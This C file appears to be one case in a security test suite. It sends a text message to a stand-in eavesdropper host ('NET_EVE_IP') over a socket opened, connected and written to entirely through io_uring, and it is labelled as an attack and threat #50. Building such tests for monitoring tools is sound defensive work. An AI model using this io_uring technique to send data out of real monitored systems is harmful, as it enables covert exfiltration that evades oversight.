// SPDX-License-Identifier: GPL-3.0-or-later
/* The socket, the connection and the message: all by io_uring. */
#include "flow-net.h"
#include "flow-uring.h"

static int put(void)
{
	struct net_addr a = net_at(NET_EVE_IP, FLOW_PORT);
	struct io_uring_sqe sqe = { .opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM };
	int fd = ring_do(&ring, &sqe), r;

	if (fd < 0)
		return fd == -EINVAL ? -ENOSYS : fd;
	sqe = (struct io_uring_sqe){
		.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&a.at, .off = a.len
	};
	r = ring_do(&ring, &sqe);
	if (r < 0)
		return r;
	return ring_put_text(fd, IORING_OP_WRITE, 0);
}

FLOW("attack: net_uring_connect; threat: #50; op: send; door: network", .make = make_tcp,
     .before = before_ring, .put = put, .get = get_stream);
